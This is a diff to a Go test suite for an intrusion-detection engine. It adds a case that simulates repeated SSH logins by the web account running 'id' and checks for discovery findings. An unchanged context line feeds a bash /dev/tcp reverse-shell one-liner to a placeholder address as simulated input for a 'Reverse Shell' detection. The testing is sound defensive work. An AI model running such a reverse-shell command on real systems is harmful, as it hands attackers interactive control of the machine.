@@ -155,6 +155,15 @@ func TestRoutineAttackerRepeatingOneCommand(t *testing.T) {
 			s.find(s.exec(260, shellOf(2999, worker1, dir), "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
 			return ids
 		}},
+		{"spread over the whole log, one ssh login as the web account for each", func(s *sim) []*detect.Finding {
+			var ids []*detect.Finding
+			for i := 0; i < 50; i++ {
+				login := who{pid: 6000 + 2*i, ppid: sshD.pid, uid: 33, auid: parser.NewID(33), ses: parser.NewID(uint32(100 + i)), cwd: "/var/www"}
+				s.exec(spread(i)-0.01, login, "bash", "-c", "id")
+				ids = append(ids, s.find(s.exec(spread(i), child(6001+2*i, login), "id"), detect.StageCommandExecution, detect.SeverityMedium, "Discovery By Web Account"))
+			}
+			return ids
+		}},
 		{"spread over the whole log next to a script written during the log", func(s *sim) []*detect.Finding {
 			s.write(1, worker1, parser.KindFileWrite, dir+"/x.php")
 			var ids []*detect.Finding
